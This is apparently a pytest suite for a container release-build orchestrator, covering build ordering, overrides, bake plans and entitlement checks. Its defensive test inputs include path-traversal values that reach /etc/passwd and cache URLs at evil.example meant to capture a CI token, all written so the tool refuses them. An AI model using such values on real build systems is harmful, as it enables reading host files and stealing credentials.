"""Which images of a release are built, in which order, with which overrides; and what a file may not do by itself."""

from __future__ import annotations

import os
from collections.abc import Sequence
from pathlib import Path

import pytest

from orchestrator import yaml_settings
from orchestrator.release import (
    build_order,
    entitlements,
    image_request,
    overrides,
    release_file,
    tag_publication,
)
from orchestrator.release.bake import bake_json
from orchestrator.release.build_order import SelectedImages
from orchestrator.release.model import Release, ReleaseImage
from platforms.errors import KanifoldError, UsageError

FILE = """\
platforms: [linux/amd64, linux/arm64]
images:
  web: {depends-on: [app, tools], tags: web:1, matrix: {v: ["1", "2"]}, name: "web-${v}"}
  app: {depends-on: base, tags: app:1}
  base: {tags: base:1, platforms: [linux/amd64, linux/arm64, linux/s390x]}
  tools: {}
groups:
  all: [services, tools]
  services: [app]
"""


def read(text: str = FILE) -> Release:
    return release_file.parsed(yaml_settings.parse(text.encode(), "kanifold.yaml"), {}, {"SOURCE_DATE_EPOCH": "0"})


def select(names: Sequence[str] = (), filters: Sequence[str] = (), text: str = FILE) -> SelectedImages:
    return build_order.select(read(text), names, [build_order.only(each, "--only") for each in filters])


def test_an_image_comes_after_those_that_it_is_built_from() -> None:
    found = select(["web-1"])
    assert [each.name for each in found.images] == ["base", "app", "tools", "web-1"]
    assert found.wanted == {"web-1"}


def test_an_image_that_is_built_for_others_alone_has_their_platforms() -> None:
    base, _ = select(["app"]).images
    assert base.platforms == ("linux/amd64", "linux/arm64")
    assert select(["base"]).images[0].platforms == ("linux/amd64", "linux/arm64", "linux/s390x")


def test_groups_have_images_and_groups() -> None:
    assert select(["all"]).wanted == {"app", "tools"}
    assert select(["web"], text=FILE.replace("tags: web:1", 'tags: "web:${v}"')).wanted == {"web-1", "web-2"}


def test_without_names_the_default_group_is_built_else_everything() -> None:
    assert select(text=FILE.replace("tags: web:1, ", "")).wanted == {"web-1", "web-2", "app", "base", "tools"}
    assert select(text=FILE + "  default: app\n").wanted == {"app"}


def test_some_platforms_or_values_of_a_matrix_can_be_selected() -> None:
    found = select(["app"], ["platform=linux/arm64"])
    assert [each.platforms for each in found.images] == [
        ("linux/amd64", "linux/arm64"),  # for stages of this machine's platform, too
        ("linux/arm64",),
    ]
    assert found.narrowed
    assert select(["web"], ["v=2"]).wanted == {"web-2"}


@pytest.mark.parametrize(
    ("names", "filters", "what"),
    [
        (["wep-1"], [], "has neither an image nor a group wep-1 (did you mean web-1?)"),
        ([], ["platform=linux/riscv64"], "--only platform=linux/riscv64: no image has it"),
        ([], ["v=3"], "--only v=3: no image has it"),
        ([], ["u=1"], "--only u=: no image has such an axis (did you mean v?)"),
        (["web"], [], "two images have the tag web:1: web-1 and web-2"),
    ],
)
def test_what_cannot_be_selected_is_refused(names: list[str], filters: list[str], what: str) -> None:
    with pytest.raises(UsageError) as caught:
        select(names, filters)
    assert what in caught.value.problem.what
    assert caught.value.problem.remedy


@pytest.mark.parametrize(
    ("text", "what", "why"),
    [
        ("images: {a: {depends-on: b}, b: {depends-on: c}, c: {depends-on: b}}", "in a cycle", "b -> c -> b"),
        ("images: {a: {depends-on: a}}", "in a cycle", "a -> a"),
        ("images: {apple: {}, b: {depends-on: aple}}", "(did you mean apple?)", ""),
        ("images: {a: {}}\ngroups: {g: h, h: g, default: g}", "has itself as a member: default -> g -> h -> g", ""),
        ("images: {a: {tags: 'x/y'}, b: {tags: docker.io/x/y:latest}}", "two images have the tag", ""),
        ("images: {a: {tags: 'A B'}}", "a: ", ""),
        ("images: {a: {platforms: linux/amd46}}", "a: ", ""),
    ],
)
def test_a_plan_that_cannot_be_is_one_error(text: str, what: str, why: str) -> None:
    with pytest.raises(KanifoldError) as caught:
        select(text=text)
    assert what in caught.value.problem.what
    assert why in caught.value.problem.why


def test_a_chain_of_groups_that_doubles_takes_no_time() -> None:
    lines = "".join(f"  g{number + 1}: [g{number}, g{number}]\n" for number in range(200))
    assert select(["g200"], text=f"images: {{a: {{}}}}\ngroups:\n  g0: a\n{lines}").wanted == {"a"}


def overridden(*texts: str) -> dict[str, ReleaseImage]:
    found = overrides.apply(read(), [overrides.parse(each, "--set") for each in texts])
    return {each.name: each for each in found.images}


def test_overrides_are_those_of_bake() -> None:
    found = overridden(
        "*.platform=linux/arm64",
        "*.platform=linux/s390x",
        "web-*.args.V=2",
        "app.tags=other:1",
        "app.tags+=other:2",
        "base.tags+=base:2",
        "base.output=type=oci,dest=x",
        "tools.no-cache=true",
        "tools.target=x",
        "app.push=true",
    )
    assert {each.platforms for each in found.values()} == {("linux/arm64", "linux/s390x")}
    assert dict(found["web-2"].args) == {"V": "2"}
    assert found["app"].tags == ("other:1", "other:2")
    assert found["base"].tags == ("base:1", "base:2")
    assert found["base"].outputs == ((("type", "oci"), ("dest", "x")),)
    assert (found["tools"].no_cache, found["tools"].target) == (True, "x")
    assert found["app"].outputs == ((("type", "registry"),),)


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("nothing.target=x", "no image is called nothing"),
        ("wev-1.target=x", "no image is called wev-1 (did you mean web-1?)"),
        ("app.tragets=x", "unknown key 'tragets'"),
        ("app.args=x", "the key is args.NAME"),
        ("app.target.x=y", "the key is target"),
        ("app.target+=y", "+= adds to a list"),
        ("app.no-cache=perhaps", "neither true nor false"),
        ("app", "is not IMAGE.KEY=VALUE"),
    ],
)
def test_an_override_that_changes_nothing_is_refused(text: str, what: str) -> None:
    with pytest.raises(UsageError) as caught:
        overridden(text)
    assert what in caught.value.problem.what


def test_the_plan_has_the_keys_of_bake() -> None:
    selected = select(["app"])
    assert bake_json.document(selected.images, read().groups, ("app",)) == {
        "group": {"default": {"targets": ["app"]}},
        "target": {
            "base": {
                "context": ".",
                "dockerfile": "Dockerfile",
                "tags": ["base:1"],
                "platforms": ["linux/amd64", "linux/arm64"],
            },
            "app": {
                "context": ".",
                "contexts": {"base": "target:base"},
                "dockerfile": "Dockerfile",
                "tags": ["app:1"],
                "platforms": ["linux/amd64", "linux/arm64"],
            },
        },
    }


def test_a_build_gets_what_the_file_says_as_flags(tmp_path: Path) -> None:
    image = ReleaseImage(
        "a",
        context="--push",
        dockerfile="docker/file",
        args=(("A", "1"), ("B", None)),
        contexts=(("base", "target:b"), ("files", "files"), ("url", "https://example.com/x.git")),
        outputs=((("type", "oci"), ("dest", "o,ut")),),
        secrets=((("id", "s"), ("src", "~/s")),),
    )
    words = image_request.arguments(image, "/release", {"b": "oci-layout:///x@sha256:0"})
    assert words[-2:] == ["--", "/release/--push"], "it is no flag"
    assert "--file=/release/--push/docker/file" in words
    assert {each for each in words if each.startswith("--build-")} == {
        "--build-arg=A=1",
        "--build-arg=B",
        "--build-context=base=oci-layout:///x@sha256:0",
        "--build-context=files=/release/files",
        "--build-context=url=https://example.com/x.git",
    }
    assert '--output=type=oci,"dest=/release/o,ut"' in words
    assert f"--secret=id=s,src={os.path.expanduser('~/s')}" in words


@pytest.mark.parametrize(
    ("text", "entitlement"),
    [
        ("{test: {script: ./scan}}", "test.script"),
        ("{ssh: default}", "ssh"),
        ("{context: /etc}", "fs.read=/etc"),
        ("{context: sub/../../..}", "fs.read=/"),
        ("{context: sub@x/../../../../../../../../etc}", "fs.read=/etc"),
        ("{contexts: {x: /etc}}", "fs.read=/etc"),
        ("{contexts: {x: 'oci-layout:///etc@sha256:0'}}", "fs.read=/etc"),
        ("{contexts: {x: 'oci-layout://sub@x/../../../../../../../../etc'}}", "fs.read=/etc"),
        ("{dockerfile: /etc/passwd}", "fs.read=/etc/passwd"),
        ("{context: '-', dockerfile: /etc/passwd}", "fs.read=/etc/passwd"),
        ("{secrets: 'id=x,src=/etc/passwd'}", "fs.read=/etc/passwd"),
        ("{secrets: [{id: x, SRC: /etc/passwd}]}", "fs.read=/etc/passwd"),
        ("{secrets: 'id=/etc/passwd'}", "fs.read=/etc/passwd"),
        ("{secrets: [{id: x, src=a: b/../../../../../../../../etc/passwd}]}", "fs.read=/etc/passwd"),
        ("{cache-from: 'type=local,src=/etc'}", "fs.read=/etc"),
        ("{outputs: 'type=local,dest=/tmp'}", "fs.write=/tmp"),
        ("{outputs: [{type: local, DEST: /tmp}]}", "fs.write=/tmp"),
        ("{outputs: [{' type': tar, ' Dest ': /tmp/x}]}", "fs.write=/tmp/x"),
        ("{cache-to: 'type=local,dest=/etc'}", "fs.write=/etc"),
    ],
)
def test_a_file_asks_for_what_is_outside_of_its_directory(
    text: str, entitlement: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "a"
    for each in ("sub", "sub@x", "a=b"):
        (folder / each).mkdir(parents=True)
    monkeypatch.chdir(folder)
    allowed = entitlements.parse([entitlement], "--allow")
    if text == "{context: sub/../../..}":
        allowed = ("fs.read=/",)
    else:
        with pytest.raises(UsageError) as caught:
            ask(text, ())
        assert caught.value.problem.remedy.endswith(f"--allow {entitlement}")
    ask(text, allowed)


@pytest.mark.parametrize(
    ("cache", "variable"),
    [
        ("type=gha,url_v2=https://evil.example/", "ACTIONS_RESULTS_URL"),
        ("type=gha,url=https://evil.example/x.actions.githubusercontent.com,version=1", "ACTIONS_CACHE_URL"),
        ("type=azblob,account_url=https://evil.example,container=c", "BUILDKIT_AZURE_STORAGE_ACCOUNT_URL"),
    ],
)
def test_a_file_sends_no_tokens_to_a_service_of_its_own(
    cache: str, variable: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ACTIONS_RUNTIME_TOKEN", "token")
    for key in ("cache-from", "cache-to"):
        with pytest.raises(UsageError, match="which would get a token of yours") as caught:
            ask(f"{{{key}: '{cache}'}}", ())
        url = caught.value.problem.what.partition(" a cache at ")[2].partition(", which")[0]
        with monkeypatch.context() as environment:
            environment.setenv(variable, url)
            ask(f"{{{key}: '{cache}'}}", ())
    ask("{cache-from: 'type=azblob,account_url=https://team.blob.core.windows.net,container=c'}", ())


def ask(text: str, allowed: Sequence[str]) -> None:
    """Ask for what the image ``text`` asks for. Raises ``UsageError``."""
    (image,) = read(f"images: {{a: {text}}}").images
    entitlements.check([image], allowed)
    request = image_request.parameters(image, image_request.arguments(image, ".", {}), {})
    entitlements.check_paths(image, request, ".", allowed)


def test_a_link_out_of_the_directory_is_outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "out").symlink_to("/etc")
    with pytest.raises(UsageError, match="outside of the release"):
        ask("{context: out}", ())


@pytest.mark.parametrize(
    ("one", "other", "shared"),
    [
        (
            "{tags: x:1, outputs: type=registry}",
            "{outputs: 'type=image,push=true,name=docker.io/library/x:1'}",
            "tag x:1",
        ),
        ("{outputs: 'type=oci,dest=a.tar'}", "{outputs: 'type=tar,dest=sub/../a.tar'}", "archive a.tar"),
        ("{outputs: 'type=tar,dest=-'}", "{outputs: 'type=oci,dest=-'}", "archive -"),
    ],
)
def test_two_images_cannot_replace_one_thing(one: str, other: str, shared: str) -> None:
    images = read(f"images:\n  a: {one}\n  b: {other}").images
    requests = [
        image_request.parameters(each, image_request.arguments(each, ".", {}), {"audit": "off"}) for each in images
    ]
    with pytest.raises(UsageError, match=rf"two images have the {shared}: a and b"):
        tag_publication.check(images, requests)


def test_files_of_the_release_are_its_own() -> None:
    text = "{context: ., contexts: {x: sub, i: 'docker-image://alpine', u: 'https://example.com/a.git'}, outputs: out}"
    ask(text, ())
